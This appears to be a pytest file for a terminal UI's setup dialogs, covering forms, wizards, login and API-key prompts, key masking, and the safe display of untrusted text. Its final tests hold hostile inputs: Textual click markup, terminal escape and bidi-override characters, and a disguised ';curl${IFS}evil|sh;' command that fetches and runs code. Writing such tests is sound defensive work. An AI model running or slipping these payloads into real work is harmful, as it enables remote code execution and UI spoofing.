"""What the set-up asks, answered by keys: every kind of question, wrong values, hostile texts, and a key that hides."""

from functools import partial
from types import SimpleNamespace

import pytest
from textual.widgets import Input

from oulipoly_engine.core.setup.dialogs import (
    Cancelled,
    CliChoice,
    CliOption,
    CliSelection,
    Confirmation,
    Confirmed,
    Form,
    FormAnswer,
    FormField,
    KeyGiven,
    KeyRequest,
    LoginDone,
    LoginRequest,
    Option,
    Skipped,
    Wizard,
    WizardAnswer,
    WizardPage,
)
from oulipoly_engine.core.setup.events import Agreement
from oulipoly_engine.records import replace
from oulipoly_tui.screens import review
from oulipoly_tui.screens.question import Confirm
from oulipoly_tui.screens.setup.form import FormScreen
from oulipoly_tui.view.setup.dialogs import RunLogin, wish_page
from oulipoly_tui.view.setup.log import agreement_body
from oulipoly_tui.view.transcript.spans import cells, plain, wrap_lines

KEY = "sk-ant-api03-made-up"
FORM = Form(
    "Your pools",
    (
        FormField("name", "Name of the pool", required=True, placeholder="work", help_text="Letters and digits."),
        FormField("share", "Reserve in percent", "number", default_value=20.0),
        FormField("on", "Use it at once", "checkbox", default_value=True),
        FormField("rule", "Rule", "select", options=(Option("most-headroom", "Most headroom"), Option("readme"))),
        FormField("clis", "CLIs", "multi_select", options=(Option("a,b", "Both"), Option("2"), Option("codex"))),
        FormField("note", "Note", "textarea", default_value="two\nlines"),
    ),
    "pools",
    "What shall the pools look like? Say it here, field by field; what is left out has its default.",
    "Make it so",
)
STEPS = Wizard(
    "Two accounts",
    tuple(WizardPage(f"Part {name}", Form(name, (FormField(name, f"Name {name}"),))) for name in "abc"),
    "accounts",
)


@pytest.fixture
def running(running):
    """Open the app with one pane, without reading quota."""
    return partial(running, panes=["pools"], reads_quota=False)


async def type_text(pilot, text):
    await pilot.press(*text)


async def test_a_form_and_a_wizard_look_as_they_did_and_long_labels_hide_no_button(
    empty_world, running, asked, screen_text, box_text, settled, check_golden
):
    async with running((80, 24)) as (app, pilot):

        async def resize(*size):
            await pilot.resize_terminal(*size)
            await settled(pilot, lambda: app.frame.size == size)

        async def close():
            app.pop_screen()
            await settled(pilot, lambda: app.screen is app.frame)

        for size in ((80, 24), (120, 40)):
            await resize(*size)
            await asked(app, pilot, FORM)
            await pilot.press("ctrl+s")
            await settled(pilot, lambda: "✗ it has to be filled in" in "\n".join(screen_text(app)))
            check_golden(f"setup-form-{size[0]}", box_text(app, app.screen))
            await close()

            await asked(app, pilot, replace(STEPS, current_step=1))
            await settled(pilot, lambda: "step 2 of 3" in "\n".join(screen_text(app)))
            await settled(pilot, lambda: "enter OK" in screen_text(app)[-1])
            check_golden(f"setup-wizard-{size[0]}", box_text(app, app.screen))
            await close()

        await resize(60, 20)
        label = "Which of your accounts shall answer what is asked at night, while nobody looks"
        await asked(app, pilot, Form("Nights", (FormField("who", label, required=True),), submit_label="yes " * 30))
        await settled(pilot, lambda: "Skip" in "\n".join(screen_text(app)))
        text = " ".join("".join(screen_text(app)).replace("│", " ").split())
        assert ("required" in text, label in text) == (True, True)
        await close()
        await asked(app, pilot, Confirmation("Sure?", "all of it", "c", "yes " * 30, "no " * 30))
        await settled(pilot, lambda: all(key in "\n".join(screen_text(app)) for key in ("(y)", "(n)")))


async def test_a_form_is_filled_in_by_keys_and_what_is_wrong_stands_under_its_field_until_it_is_changed(
    empty_world, running, asked, screen_text, settled
):
    async with running((80, 40)) as (app, pilot):
        answers = await asked(app, pilot, FORM)
        await type_text(pilot, "work")
        await pilot.press("enter", "end", "backspace", "5", "enter", "space", "tab", "down", "enter", "tab")
        await pilot.press("space", "down", "space", "tab", "down", "end", "!", "f2")
        await settled(pilot, lambda: answers and app.screen is app.frame)
        values = {
            **{"name": "work", "share": 25.0, "on": False, "rule": "readme", "clis": ("a,b", "2")},
            **{"note": "two\nlines!"},
        }
        assert answers == [FormAnswer("pools", values)]

        answers = await asked(app, pilot, replace(FORM, form_id="others"))
        await pilot.press("tab", "x", "ctrl+s")
        await settled(pilot, lambda: "✗ it has to be filled in" in "\n".join(screen_text(app)))
        assert any("✗ '20x' is not a number" in line for line in screen_text(app))
        await type_text(pilot, "w")
        await settled(pilot, lambda: "✗ it has to be filled in" not in "\n".join(screen_text(app)))
        await pilot.press("tab", "backspace", "ctrl+s")
        await settled(pilot, lambda: answers and app.screen is app.frame)
        assert (answers[0].values["name"], answers[0].values["share"]) == ("w", 20.0)

        answers = await asked(app, pilot, replace(FORM, form_id="last"))
        for key in ("n", "y"):  # Escape asks once before it ends the set-up
            await settled(pilot, lambda: isinstance(app.screen, FormScreen))
            assert not answers
            await pilot.press("escape")
            await settled(pilot, lambda: isinstance(app.screen, Confirm))
            await pilot.press(key)
        await settled(pilot, lambda: answers)
        assert answers == [Cancelled()]


async def test_a_wizard_goes_back_to_what_was_typed_and_answers_the_step_that_is_shown(
    empty_world, running, asked, screen_text, settled
):
    async with running((80, 24)) as (app, pilot):
        for step, text in ((0, "one"), (1, "two")):
            answers = await asked(app, pilot, replace(STEPS, current_step=step))
            await type_text(pilot, text)
            if step == 0:
                await pilot.press("ctrl+s")
                await settled(pilot, lambda answers=answers: answers)
                assert answers == [WizardAnswer("accounts", 0, {"a": "one"})]
        await pilot.press("escape")
        await settled(pilot, lambda: "step 1 of 3" in "\n".join(screen_text(app)))
        await pilot.press("end", "!", "ctrl+s")
        await settled(pilot, lambda: answers)
        again = await asked(app, pilot, replace(STEPS, current_step=1))
        await pilot.press("ctrl+s")
        await settled(pilot, lambda: again)

    assert (answers, again) == (
        [WizardAnswer("accounts", 0, {"a": "one!"})],
        [WizardAnswer("accounts", 1, {"b": "two"})],
    )


KINDS = [
    (FORM, ["shift+tab", "enter"], Skipped()),
    (Confirmation("Keep?", "all of it", "c"), ["enter"], Confirmed("c", False)),
    (Confirmation("Keep?", "all of it", "c"), ["escape"], Confirmed("c", False)),
    (Confirmation("Keep?", "all of it", "c"), ["right", "enter"], Confirmed("c", True)),
    (CliSelection((CliOption("a", True), CliOption("b"))), ["down", "enter", "f2"], CliChoice(("a", "b"))),
    (LoginRequest("Claude", "claude auth login", "do it"), ["enter"], LoginDone("Claude")),
    (LoginRequest("Claude", "agents account add claude", "", "claude"), ["tab", "enter"], RunLogin()),
    (LoginRequest("Claude", "claude auth login", "do it"), ["tab", "enter"], Skipped()),
]


async def test_each_kind_of_question_has_its_answer_by_keys_and_by_mouse(
    empty_world, running, asked, screen_text, settled, monkeypatch
):
    async def click(words):
        y, line = next((y, line) for y, line in enumerate(screen_text(app)) if words in line)
        await pilot.click(offset=(line.index(words) + 1, y))

    given = []
    async with running((80, 24)) as (app, pilot):
        for dialog, keys, _ in KINDS:
            answers = await asked(app, pilot, dialog, can_run=True)
            await pilot.press(*keys)
            await settled(pilot, lambda answers=answers: answers and app.screen is app.frame)
            given += answers
        assert given == [expected for _, _, expected in KINDS]

        answers = await asked(app, pilot, CliSelection((CliOption("a", True), CliOption("b"), CliOption("c"))))
        for words, chosen in (("[ ] b", "[x] b"), ("[ ] c", "[x] c"), ("[x] a", "[ ] a")):
            await settled(pilot, lambda words=words: words in "\n".join(screen_text(app)))
            await click(words)
            await settled(pilot, lambda chosen=chosen: chosen in "\n".join(screen_text(app)))
        await click("ctrl+s or F2: go on")
        await settled(pilot, lambda: answers and app.screen is app.frame)
        assert answers == [CliChoice(("b", "c"))]

        answers = await asked(app, pilot, CliSelection((CliOption("a", True), CliOption("b")), "again"))
        await pilot.press("space", "ctrl+s")  # nothing is chosen where something has to be
        await settled(pilot, lambda: "✗ choose something" in "\n".join(screen_text(app)))
        assert answers == []
        app.pop_screen()
        await settled(pilot, lambda: app.screen is app.frame)

        monkeypatch.setattr(review, "PAUSE_S", 1000.0)  # an Enter that is held down says of no login that it is done
        answers = await asked(app, pilot, LoginRequest("Claude", "claude auth login", "do it"))
        await pilot.press("enter", "enter", "enter")
        await pilot.pause()
        assert (answers, isinstance(app.screen, FormScreen)) == ([], True)


async def test_a_key_is_never_shown_and_is_gone_from_the_field(empty_world, running, asked, screen_text, settled):
    async with running((80, 24)) as (app, pilot):
        answers = await asked(app, pilot, KeyRequest("OpenRouter", "OPENROUTER_API_KEY", "https://x.example/keys"))
        await type_text(pilot, KEY)
        field = app.screen.query_one(Input)
        assert KEY == field.value
        assert KEY not in "\n".join(screen_text(app)) + app.export_screenshot() + repr(app.screen) + repr(field)
        await pilot.press("ctrl+s")
        await settled(pilot, lambda: answers)
        assert "" == field.value
        assert (KEY, False) == (answers[0].key, KEY in repr(answers))
        assert isinstance(answers[0], KeyGiven)
        await settled(pilot, lambda: app.screen is app.frame)

        answers = await asked(app, pilot, KeyRequest("Codex", "OPENAI_API_KEY", keyring="wallet"))
        await type_text(pilot, KEY)
        assert "(o) a file that only you can read" in "\n".join(screen_text(app))
        await pilot.press("tab", "down", "space", "ctrl+s")
        await settled(pilot, lambda: answers)
        assert answers == [KeyGiven("Codex", "OPENAI_API_KEY", KEY, in_keyring=True)]


async def test_texts_of_a_model_are_only_texts(empty_world, running, asked, screen_text, settled):
    evil = "[@click=app.exit]x[/] \x1b]0;gone\x07\u202etxt"
    field = FormField("n", evil, "select", help_text=evil, options=(Option("v", evil),))
    dialogs = (
        Form(evil, (field, FormField("t", placeholder=evil)), description=evil, submit_label=evil),
        Wizard(evil, (WizardPage(evil, Form("f", (field,)), evil),)),
        Confirmation(evil, evil, "c", evil, evil),
        LoginRequest(evil, evil, evil),
        KeyRequest(evil, "A_KEY", evil),
        CliSelection((CliOption(evil, description=evil),), evil),
    )
    async with running((120, 40)) as (app, pilot):
        for dialog in dialogs:
            await asked(app, pilot, dialog)
            await settled(pilot, lambda: "[@click=app.exit]x[/]" in "\n".join(screen_text(app)))
            assert [] == [line for line in screen_text(app) if not line.isprintable()]
            app.pop_screen()
            await settled(pilot, lambda: app.screen is app.frame)


async def test_the_first_page_offers_the_models_and_is_left_without_a_question(
    empty_world, running, screen_text, settled
):
    offers = SimpleNamespace(models=("claude-opus", "codex"), model="codex", accounts=())
    answers = []
    async with running((80, 24)) as (app, pilot):
        for keys in (["escape"], ["a", "tab", "up", "space", "tab", "down", "space", "f2"]):
            app.push_screen(FormScreen(wish_page(offers)), answers.append)
            await settled(pilot, lambda: "(o) codex" in "\n".join(screen_text(app)))
            await pilot.press(*keys)
            await settled(pilot, lambda: app.screen is app.frame)

    assert answers == [None, FormAnswer("form", {"wish": "a", "model": "claude-opus", "cli": "claude"})]


def test_a_command_is_shown_whole_whatever_it_is_made_of():
    text = "\uff1a" * 60 + ";curl${IFS}evil|sh;" + "\u200b\u202e" + "\uff1a" * 30
    lines = wrap_lines(agreement_body(Agreement("command", "Run this command?", text)), 40)

    assert max(cells(plain(line)) for line in lines) <= 40
    assert "".join(map(plain, lines)) == text.replace("\u200b\u202e", "<U+200B><U+202E>")
